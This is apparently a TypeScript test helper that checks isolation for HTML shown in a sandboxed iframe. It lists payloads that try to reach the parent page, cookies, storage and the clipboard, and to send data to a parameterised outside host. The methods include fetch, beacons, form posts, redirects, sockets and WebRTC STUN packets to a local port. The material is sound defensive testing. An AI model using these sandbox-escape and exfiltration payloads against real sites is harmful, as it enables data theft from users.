/** What HTML in a frame apart must not be able to do; each throws where it is kept from it. */
export function listAttacks(outsideUrl: string): Readonly<Record<string, string>> {
  const imageAt = (url: string) =>
    `await new Promise((yes, no) => { const image = new Image(); image.onload = yes; image.onerror = no; image.src = "${url}"; })`;
  const frameWith = (content: string) =>
    `await new Promise((yes, no) => { addEventListener("message", yes); const f = document.createElement("iframe"); ${content}; document.body.append(f); setTimeout(no, 1000); })`;
  const tell = `parent.postMessage(1, '*')`;
  return {
    'the page': 'top.document.title = "taken"',
    'the file that holds the frame': 'parent.document.title = "taken"',
    'local storage': 'localStorage.setItem("a", "b")',
    cookies: 'document.cookie = "a=b"; if (!document.cookie) throw 1',
    databases:
      'await new Promise((yes, no) => { const r = indexedDB.open("cahier"); r.onsuccess = yes; r.onerror = no; })',
    caches: 'await caches.keys()',
    'private files': 'await navigator.storage.getDirectory()',
    locks: 'await navigator.locks.query()',
    'service workers': 'await navigator.serviceWorker.getRegistrations()',
    'another host by fetch': `await fetch("${outsideUrl}/fetch", { mode: "no-cors" })`,
    'another host by an image': imageAt(`${outsideUrl}/image`),
    'the own host by a path': 'await fetch("/index.html")',
    'another host by a request that blocks': `const x = new XMLHttpRequest(); x.open("GET", "${outsideUrl}/xhr", false); x.send()`,
    'another host by a socket': `await new Promise((yes, no) => { const s = new WebSocket("${outsideUrl.replace('http', 'ws')}/socket"); s.onopen = yes; s.onerror = no; })`,
    'another host by events': `await new Promise((yes, no) => { const s = new EventSource("${outsideUrl}/events"); s.onopen = yes; s.onerror = no; })`,
    'another host by a script': `await import("${outsideUrl}/script.js")`,
    'another host from a worker': `await new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${outsideUrl}/worker', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = (e) => e.data ? yes() : no(); w.onerror = no; })`,
    'a window': `if (open("${outsideUrl}/window") === null) throw 1`,
    peers: 'new RTCPeerConnection()',
    'a script in a frame': frameWith(`f.srcdoc = "<script>${tell}<\\/script>"`),
    'a script in an attribute in a frame': frameWith(`f.srcdoc = "<img src='data:,' onerror=\\"${tell}\\">"`),
    'a script in the address of a frame': frameWith(`f.src = "javascript:${tell}"`),
  };
}

/** What a press within HTML must not be able to do either: without one browsers would refuse it in any frame. */
export const attacksOnPress: Readonly<Record<string, string>> = {
  'the whole screen': 'await document.documentElement.requestFullscreen()',
  'the pointer': 'await document.documentElement.requestPointerLock()',
  'reading the clipboard': 'await navigator.clipboard.readText()',
  'writing to the clipboard': 'await navigator.clipboard.writeText("taken")',
};

/** Ways to hold up the reader with a dialog of the browser. */
export const dialogs = '<script>alert("a"); confirm("b"); prompt("c");</script>';

/** Ways to ask another host that tell nothing of how it went. */
export function listWaysOut(outsideUrl: string): readonly string[] {
  return [
    `<script>navigator.sendBeacon("${outsideUrl}/beacon", "x")</script>`,
    `<link rel="stylesheet" href="${outsideUrl}/style"><link rel="prefetch" href="${outsideUrl}/prefetch">`,
    `<style>@import "${outsideUrl}/import"; body { background: url("${outsideUrl}/background") }</style>`,
    `<iframe src="${outsideUrl}/frame"></iframe><object data="${outsideUrl}/object"></object><video src="${outsideUrl}/video"></video>`,
    `<meta http-equiv="refresh" content="0; url=${outsideUrl}/refresh">`,
    `<form action="${outsideUrl}/form" method="post"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`,
    `<a href="${outsideUrl}/link" ping="${outsideUrl}/ping">x</a><script>document.querySelector("a").click()</script>`,
    `<script>location = "${outsideUrl}/location"</script>`,
    `<script>try { top.location = "${outsideUrl}/top" } catch {}</script>`,
    `<script>try { parent.location = "${outsideUrl}/parent" } catch {}</script>`,
    `<base href="${outsideUrl}/"><img src="relative">`,
  ];
}

/** Ways to send a packet to this port of UDP from a frame within the frame, where what is taken from that is at hand again. */
export function listPeersWithin(port: number): readonly string[] {
  const send = `try { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); peer.createDataChannel('a'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); } catch {}`;
  const within = `<iframe srcdoc="<script>${send}</script><img src='data:,' onerror=&quot;${send}&quot;>"></iframe>`;
  const written = JSON.stringify(within).replaceAll('</', '<\\/');
  return [
    `<script>${send}</script>`,
    within,
    `<iframe src="javascript:${send}"></iframe>`,
    `<div><template shadowrootmode="closed">${within}</template></div>`,
    `<script>document.write(${written})</script>`,
    `<script>document.documentElement.innerHTML = ${written}; for (const until = Date.now() + 300; Date.now() < until; );</script>`,
    `<script>location = 'javascript:' + encodeURIComponent(JSON.stringify(${written}))</script>`,
  ];
}

/**
 * HTML that tries all attacks, at once or when its button is pressed, and tells by its height, beyond 100,000, which of them
 * were no failure: one bit each.
 */
export function makeAttackingHtml(attacks: Readonly<Record<string, string>>, start: 'now' | 'press'): string {
  const functions = Object.values(attacks).map((attack) => `async () => { ${attack} }`);
  return `<button>Attack</button><script>
    const attack = async () => {
      let succeeded = 0;
      for (const [index, attack] of [${functions.join(',\n')}].entries()) {
        const ended = await Promise.race([attack().then(() => true, () => false), new Promise((done) => setTimeout(done, 1500, false))]);
        if (ended) succeeded += 2 ** index;
      }
      parent.postMessage({ cahierHeight: 100000 + succeeded }, "*");
    };
    ${start === 'now' ? 'attack();' : 'document.querySelector("button").onclick = attack;'}
  </script>`;
}

/** The names of the attacks that were no failure, as told by the heights; null where nothing was told. */
export function listSuccesses(
  heights: readonly number[],
  attacks: Readonly<Record<string, string>>,
): string[] | null {
  const told = heights.at(-1) ?? 0;
  if (told < 100_000) return null;
  return Object.keys(attacks).filter((_, index) => ((told - 100_000) & (2 ** index)) !== 0);
}
